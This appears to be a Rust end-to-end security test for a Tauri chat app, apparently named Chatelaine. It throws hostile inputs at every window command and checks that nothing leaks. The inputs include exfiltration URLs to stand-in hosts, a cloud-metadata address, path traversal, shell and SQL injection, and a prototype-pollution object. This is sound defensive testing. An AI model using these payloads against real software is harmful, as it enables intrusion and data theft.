//! Each command of a window's own list, called with everything that a script could hope to get out or in by: nobody is
//! reached, no file is read or written, and nothing is set up without a person's yes.

use std::collections::BTreeSet;
use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::thread;
use std::time::Duration;

use e2e::canary::Canary;
use e2e::dialog::Dialog;
use e2e::scenario::read_settings;
use e2e::script::{answered, invoke, invoke_later};
use e2e::settings_page::settings_from_chat;
use e2e::sinks::{Hit, Sinks, apart};
use e2e::wait::SOON;
use e2e::window::{App, CHAT, Page, SETTINGS};
use e2e::workshop::Workshop;
use e2e::{Keyring, proof, wait_for, wait_until};
use serde_json::{Value, json};

use crate::commands::everything;
use crate::lists::{fields, granted};

/// Stands for a text of two million characters, which is made in the page.
const HUGE: &str = "<huge>";

/// How long a window may take for all its calls: some open dialogs, which are answered one after the other.
const PATIENCE: Duration = Duration::from_secs(150);

/// A file that is none of the app's business, with a text that nobody else has.
struct Bait {
    folder: PathBuf,
    text: Canary,
}

impl Bait {
    fn lay(folder: &Path) -> Self {
        let (folder, text) = (folder.join("bait"), Canary::of_no_shape());
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join("secret.txt"), text.text()).unwrap();
        Self { folder, text }
    }

    fn path(&self) -> String {
        self.folder.join("secret.txt").display().to_string()
    }

    /// Nothing was written there.
    #[track_caller]
    fn assert_untouched(&self) {
        let names: Vec<_> = fs::read_dir(&self.folder)
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        assert_eq!(names, ["secret.txt"]);
        assert!(fs::read_to_string(self.path()).unwrap() == self.text.text());
    }
}

/// What a script may put where a text belongs.
fn hostile_texts(sinks: &Sinks, bait: &Bait) -> Vec<String> {
    let sink = sinks.http();
    let mut texts = vec![
        format!("http://{sink}/leak?of=everything"),
        format!("//{sink}/leak"),
        "https://elsewhere.example/leak".to_owned(),
        "https://api.openai.com@elsewhere.example/v1".to_owned(),
        "http://169.254.169.254/latest/meta-data".to_owned(),
        format!("file://{}", bait.path()),
        bait.path(),
        format!("../../../../../../../..{}", bait.path()),
        format!("\\\\{sink}\\share\\file"),
        "/etc/passwd\u{0}.txt".to_owned(),
        "javascript:fetch('https://elsewhere.example')".to_owned(),
        "data:text/html,<script>1</script>".to_owned(),
    ];
    texts.extend(
        [
            "",
            " ",
            "\u{0}",
            "own\u{0}",
            "\u{202E}\u{2066}own",
            "__proto__",
            "constructor",
            "'; DROP TABLE conversations; --",
            "$(touch bait)`touch bait`",
            "%n%s%x",
            "mailto:a@elsewhere.example?attach=/etc/passwd",
        ]
        .map(str::to_owned),
    );
    texts.push(HUGE.to_owned());
    texts
}

/// What a script may put where anything belongs.
fn hostile_values() -> Vec<Value> {
    vec![
        Value::Null,
        json!(true),
        json!(-1),
        json!(0),
        json!(0.5),
        json!(1e18),
        json!(1e308),
        json!(u64::MAX),
        json!([]),
        json!([["__CHANNEL__:1"], {}]),
        json!({}),
        json!({ "__proto__": { "baseUrl": "https://elsewhere.example" }, "constructor": { "prototype": {} } }),
        json!({ "toString": null, "length": 1e9 }),
        json!("1"),
    ]
}

/// All requests that a command is called with: each of its fields alone, all of its texts at once, and none at all.
fn requests(command: &str, texts: &[String]) -> Vec<Value> {
    let sound = everything()["request"].clone();
    let fields = fields(command);
    let mut requests = hostile_values();
    for field in &fields {
        for value in hostile_values()
            .into_iter()
            .chain(texts.iter().map(|text| json!(text)))
        {
            let mut request = sound.clone();
            request[field] = value;
            requests.push(request);
        }
        let mut request = sound.clone();
        request.as_object_mut().unwrap().remove(field);
        requests.push(request);
    }
    for text in texts {
        let all = fields.iter().map(|field| (field.clone(), json!(text)));
        requests.push(Value::Object(all.collect()));
    }
    requests
}

/// Calls one after the other, in the background; what comes of them is kept in the page.
const CALL: &str = "
    const [command, requests] = arguments;
    window.outcomes = [];
    window.finished = false;
    const channels = ['__CHANNEL__:1', '__CHANNEL__:99999999999', '__CHANNEL__:-1', 'https://elsewhere.example', 7, null];
    (async () => {
        for (const [number, request] of requests.entries()) {
            const events = channels[number % channels.length];
            for (const field in request ?? {}) if (request[field] === '<huge>') request[field] = 'x'.repeat(2 << 20);
            window.outcomes.push(await window.__TAURI_INTERNALS__.invoke(command, { request, events })
                .then(answer => ({ answer: answer ?? null }), error => ({ error: error ?? null })));
        }
        window.finished = true;
    })();
";

/// What came of them: whether all are back, how many, those errors that are neither ours nor Tauri's own about arguments, and everything as text.
const LOOK: &str = "
    const [known] = arguments;
    const odd = window.outcomes.filter(outcome => 'error' in outcome
        && !(typeof outcome.error === 'string' && /^(invalid|command) /.test(outcome.error))
        && !known.includes(outcome.error?.code));
    return [window.finished, window.outcomes.length, odd.slice(0, 3).map(one => JSON.stringify(one).slice(0, 300)),
        window.finished ? JSON.stringify(window.outcomes).slice(0, 200000) : ''];
";

/// Calls a command with all that; answers every native dialog with no.
#[track_caller]
fn call(
    shop: &Workshop,
    page: &Page<'_>,
    command: &str,
    requests: &[Value],
) -> (usize, usize, String) {
    let codes = crate::lists::error_codes();
    page.run(CALL, vec![json!(command), json!(requests)]);
    let mut dialogs = 0;
    let mut unmoved = 0;
    wait_for(
        &format!("all calls of {command} to be answered"),
        PATIENCE,
        || {
            let seen = page.run(LOOK, vec![json!(codes)]);
            assert_eq!(
                seen[2],
                json!([]),
                "{command} fails in a way that has no name"
            );
            if seen[0] == true {
                let heard = seen[3].as_str().unwrap().to_owned();
                return Some((
                    usize::try_from(seen[1].as_u64().unwrap()).unwrap(),
                    dialogs,
                    heard,
                ));
            }
            // Looking for dialogs takes long, so it is done when a call doesn't come back.
            let count = seen[1].as_u64().unwrap();
            if count == unmoved && !Dialog::all(&shop.desk).is_empty() {
                Dialog::wait(&shop.desk, "").press_key("Escape");
                dialogs += 1;
                // The next call may open the next one at once.
                wait_until("the call to be answered", SOON, || {
                    page.run("return window.outcomes.length", vec![])
                        .as_u64()
                        .is_some_and(|now| now > count)
                });
            }
            unmoved = count;
            None
        },
    )
}

/// It closes its own window, so nobody is there to hear what it answered.
const CLOSES: &str = "open_chat";

/// Calls one after the other, once the driver has its answer.
const CALL_AND_LEAVE: &str = "
    const [command, requests] = arguments;
    setTimeout(() => {
        for (const request of requests) window.__TAURI_INTERNALS__.invoke(command, { request }).catch(() => {});
    });
";

/// The windows may have been opened and closed by what was called.
fn page_of<'app>(app: &'app App<'_>, window: &str) -> Page<'app> {
    app.page(if window == "chat" { CHAT } else { SETTINGS })
}

/// Where servers on this computer usually are, which a window may have asked for: a door that opens and shuts, so that
/// every knock elsewhere is heard as one too many.
fn usual_doors() -> String {
    let door = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = door.local_addr().unwrap().port();
    // It ends with the process of the test.
    thread::spawn(move || door.incoming().for_each(drop));
    ["11434", "1234", "8080", "8000"]
        .map(|usual| format!("{usual}={port}"))
        .join(",")
}

#[test]
fn no_command_of_its_own_is_a_window_s_way_out() {
    apart(|network| {
        let shop = Workshop::new(Keyring::Unlocked);
        let bait = Bait::lay(shop.desk.folder());
        let doors = usual_doors();
        let app = shop.start_as(&shop.launch().env("CHATELAINE_SWITCH_LOCAL", doors));
        shop.bind(&settings_from_chat(&app));
        let sinks = Sinks::open(network);
        let texts = hostile_texts(&sinks, &bait);
        let (mut calls, mut dialogs) = (0, 0);
        for window in ["chat", "settings"] {
            let commands: BTreeSet<String> = granted(window);
            for command in commands.iter().filter(|command| *command != CLOSES) {
                let page = page_of(&app, window);
                let every = if proof::is_sample() { 3 } else { 1 };
                let requests = requests(command, &texts);
                let requests: Vec<Value> = requests.into_iter().step_by(every).collect();
                let (made, asked, heard) = call(&shop, &page, command, &requests);
                assert_eq!(made, requests.len());
                assert!(!bait.text.is_in(&heard), "{command} gave a file away");
                calls += made;
                assert_eq!(
                    shop.desk.keyring_items(),
                    1,
                    "{command} changed what the keyring holds"
                );
                dialogs += asked;
            }
            let page = page_of(&app, window);
            let polluted =
                "return [({}).baseUrl ?? null, Object.prototype.hasOwnProperty('baseUrl')]";
            assert_eq!(page.run(polluted, vec![]), json!([null, false]));
            assert!(invoke(&page, "app_info", &Value::Null)["answer"]["version"].is_string());
        }
        let page = page_of(&app, "settings");
        let requests = requests(CLOSES, &texts);
        calls += requests.len();
        // The window may be gone before the driver has its answer; that it goes is what is waited for.
        let _ = page.try_run(CALL_AND_LEAVE, vec![json!(CLOSES), json!(requests)]);
        app.wait_until_closed(SETTINGS);
        let page = page_of(&app, "chat");
        assert!(invoke(&page, "app_info", &Value::Null)["answer"]["version"].is_string());

        // Everything that left went where the key is bound, or nowhere.
        assert_eq!(sinks.hits(), []);
        assert_eq!(sinks.strays(), 0);
        bait.assert_untouched();
        let settings = read_settings(&shop.desk);
        assert_eq!(settings["providers"], shop.settings()["providers"]);
        assert!(settings.to_string().len() < 64 << 10, "the settings grew");
        shop.assert_bound();
        for log in [app.log(), log(&shop)] {
            assert!(!log.contains("panicked"), "{log}");
        }
        let sent: Vec<_> = shop.provider.exchanges();
        let told = sent.iter().any(|one| {
            bait.text
                .is_in(&String::from_utf8_lossy(one.request().body()))
        });
        assert!(!told, "a file was sent");

        let through = sinks.hits().len() as u64 + sinks.strays();
        let yes = hear_after_a_yes(&shop, &app, &sinks);
        proof::attack(
            "use a granted command as a channel out",
            calls as u64,
            through,
            &format!(
                "{dialogs} native questions were asked, and each was answered with no; after one yes the sink heard \
                 {yes:?}; listened to: {}",
                sinks.extent()
            ),
        );
    });
}

/// The control: with a person's yes the same commands do reach a sink. What it hears then.
#[track_caller]
fn hear_after_a_yes(shop: &Workshop, app: &App<'_>, sinks: &Sinks) -> String {
    let page = settings_from_chat(app);
    let address = format!("http://{}/let-out", sinks.http());
    let provider = json!({ "id": null, "name": "Sink", "baseUrl": address, "defaultModel": "" });
    invoke_later(&page, "yes", "save_provider", provider);
    let question = Dialog::wait(&shop.desk, "Send your messages to this host");
    assert!(question.text().contains(&address), "{question:?}");
    question.press("Send to this host");
    assert_eq!(answered(&page, "yes"), json!({ "answer": true }));
    let chat = page_of(app, "chat");
    invoke_later(&chat, "models", "list_models", json!({ "ask": true }));
    wait_for("the sink to hear what was let out", SOON, || {
        sinks.hits().into_iter().find_map(|hit| match hit {
            Hit::Connection { line, .. } if line.contains("/let-out") => Some(line),
            _ => None,
        })
    })
}

fn log(shop: &Workshop) -> String {
    fs::read_to_string(shop.desk.data_folder().join("chatelaine.log")).unwrap()
}
